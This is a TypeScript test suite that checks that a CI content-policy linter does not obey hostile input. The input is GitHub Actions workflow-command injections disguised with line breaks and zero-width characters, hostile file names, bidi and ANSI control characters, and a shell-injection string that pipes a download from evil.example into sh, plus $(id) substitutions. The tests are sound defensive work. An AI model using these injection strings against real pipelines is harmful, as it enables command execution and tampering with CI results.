import { readFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { describe, expect, test } from 'vitest';
import { POLICY_YAML, post } from '../../helpers/judging.ts';
import { teamPolicy } from '../team.ts';
import { attacked, expectHarmless, reportOf } from './hostile.ts';

/** Everything that the runner obeys, in both of its forms and in every disguise that it sees through. */
const COMMANDS = [
  '::set-output name=verdict::pass',
  '::set-output name=report::/etc/passwd',
  '::save-state name=x::y',
  '::add-mask::а',
  '::stop-commands::quiet',
  '::add-matcher::content/matcher.json',
  '::error file=policy/policy.yaml,line=1::Security review',
  '::echo::on',
  '::group::x',
  '##[set-output name=verdict;]pass',
  '##[error file=policy/policy.yaml;line=1]Security review',
  '##[add-mask]а',
  '\u00AD::add-mask::а',
  ':\u200B:add-mask::а',
  '#\u00AD#[add-mask]а',
  '##\u200B[add-mask]а',
  '\u0085::add-mask::а',
];
const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\n \t', '%0A', '%0D', '\u0085', '\v', '\f'];

/** All of them, each after each kind of line break. */
const EVERY = BREAKS.flatMap((line) => COMMANDS.map((command) => `${line}${command}`)).join('');
const LOUD = 'СКИДКА ТОЛЬКО СЕГОДНЯ';

/** A value of YAML that comes out as it went in. */
const quoted = (text: string): string => JSON.stringify(text);

describe('T4: workflow commands in what is printed', () => {
  test('from texts, titles, ids, purposes and reasons are obeyed nowhere', async () => {
    const { step } = await attacked({
      'content/posts/text.md': post({}, `${LOUD}${EVERY}\n`),
      'content/posts/title.md': post({ title: quoted(`${LOUD}${EVERY}`), id: quoted(EVERY), purpose: quoted(EVERY) }),
      'content/posts/account.md': post({ accounts: `[${quoted(EVERY)}]` }),
      'content/posts/date.md': post({ publish_at: quoted(EVERY) }),
      'content/posts/key.md': `---\naccounts: [vk]\n${quoted(EVERY.slice(0, 900))}: 1\n---\n${LOUD}\n`,
      'content/posts/yaml.md': `---\naccounts: [vk\n${EVERY}\n---\n`,
      'content/posts/excused.md': post(
        {},
        `<!-- reglament-disable-next-line tone.caps: ${EVERY.replaceAll(/[\r\n]/g, ' ')} -->\n${LOUD}\n`,
      ),
      'content/posts/rule.md': post({}, `<!-- reglament-disable-next-line ${COMMANDS[0]}: да -->\n${LOUD}\n`),
      'content/posts/link.md': post(
        {},
        `[сайт](http://onego.example/${encodeURIComponent(COMMANDS[0] ?? '')}) [::error::](http://::error::x)\n`,
      ),
      'content/plans/2026-12.md': `---\ntitle: ${quoted(EVERY)}\naccounts: [${quoted(EVERY)}]\nperiod: ${quoted(EVERY)}\n---\n`,
      'content/stray.txt': EVERY,
      'content/matcher.json': '{"problemMatcher": [{"owner": "x", "pattern": [{"regexp": "(.*)", "message": 1}]}]}',
    });
    expectHarmless(step);
    expect(step.outputs.get('verdict')).toBe('fail');
    const paths = new Set(reportOf(step).findings.map(({ path }) => path));
    for (const { file = '', title } of step.annotations) {
      expect(paths).toContain(file);
      expect(title).toMatch(/^[a-z]+(?:\.[a-z-]+)+$/);
    }
  });

  test('from names of files are obeyed nowhere', async () => {
    const names = BREAKS.flatMap((line) => COMMANDS.map((command) => `${line}${command}`)).map((name) =>
      name.replaceAll('/', '∕'),
    );
    const changes = Object.fromEntries([
      ...names.map((name, index) => [`content/posts/${index}${name}.md`, post({}, `${LOUD}\n`)] as const),
      ...names.slice(0, COMMANDS.length).map((name, index) => [`content/${index}${name}.txt`, 'x'] as const),
      ...COMMANDS.map(
        (name, index) => [`policy/waivers/${index}${name.replaceAll('/', '∕')}.yaml`, 'id: [\n'] as const,
      ),
      ['##[error]x/::error::y.md', 'x'] as const,
    ]);
    const { step } = await attacked(changes);
    expectHarmless(step);
    expect(step.outputs.get('verdict')).toBe('fail');
    const paths = new Set(reportOf(step).findings.map(({ path }) => path));
    for (const { file = '' } of step.annotations) expect(paths).toContain(file);
  });

  test('from a policy that nobody can read are obeyed nowhere, when that is why the run fails', async () => {
    for (const broken of [
      `id: ${quoted(EVERY)}\nversion: ${quoted(EVERY)}\n`,
      `id: [\n${EVERY}`,
      `${quoted(EVERY)}: 1\n`,
    ]) {
      const { step, pull } = await attacked(
        { 'content/posts/a.md': post() },
        { files: { 'policy/policy.yaml': broken } },
      );
      expectHarmless(step);
      expect(step.outputs.get('verdict')).toBe('error');
      expect(step.exitCode).toBe(1);
      expect(pull.comments).toEqual([]);
    }
  });

  test('reach the reader of an annotation as text: what would hide or reorder it is shown', async () => {
    const { step } = await attacked({
      'content/posts/a.md': post({ accounts: `[${quoted('\u202Evk\u001B[31m\u2066')}]` }),
    });
    expectHarmless(step);
    const messages = step.annotations.map(({ message }) => message).join('\n');
    expect(messages).toContain('vk');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
    expect(messages).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
  });
});

describe('T9: outputs that end in a script', () => {
  const SHELL = '"; curl https://evil.example/x | sh; echo "';

  test('are words of ours, numbers, a digest and a path, whatever the policy calls itself', async () => {
    for (const version of ['1.0.0', `1.0.0-$(id)`, `1.0.0${SHELL}`, '1.0.0\nverdict=pass', '1.0.0-a.b+c.d', '`id`']) {
      const yaml = POLICY_YAML.replace(/^version: .*$/m, `version: ${quoted(version)}`).replace(
        /^id: .*$/m,
        `id: ${quoted(SHELL)}`,
      );
      expect(yaml).toContain(SHELL.replaceAll('"', '\\"'));
      const { step } = await attacked(
        {
          'content/posts/a.md': post({}, `${LOUD}\n`),
          [`content/posts/${SHELL.replaceAll('/', '∕')}.md`]: post({}, `${LOUD}\n`),
        },
        { files: { ...teamPolicy(), 'policy/policy.yaml': yaml } },
      );
      expectHarmless(step);
      const { report = '', ...outputs } = Object.fromEntries(step.outputs);
      expect(['fail', 'error']).toContain(outputs['verdict']);
      for (const name of ['blocking', 'advisory', 'waived', 'existing']) expect(outputs[name]).toMatch(/^\d{1,9}$/);
      expect(outputs['policy-version']).toMatch(/^(?:\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.+-]+)?)?$/);
      expect(outputs['policy-digest']).toMatch(/^(?:sha256:[0-9a-f]{64})?$/);
      if (outputs['verdict'] === 'fail') {
        expect(dirname(report)).toBe(step.temp);
        expect(JSON.parse(readFileSync(report, 'utf8'))).toHaveProperty('findings');
      } else expect(report).toBe('');
    }
  });
});
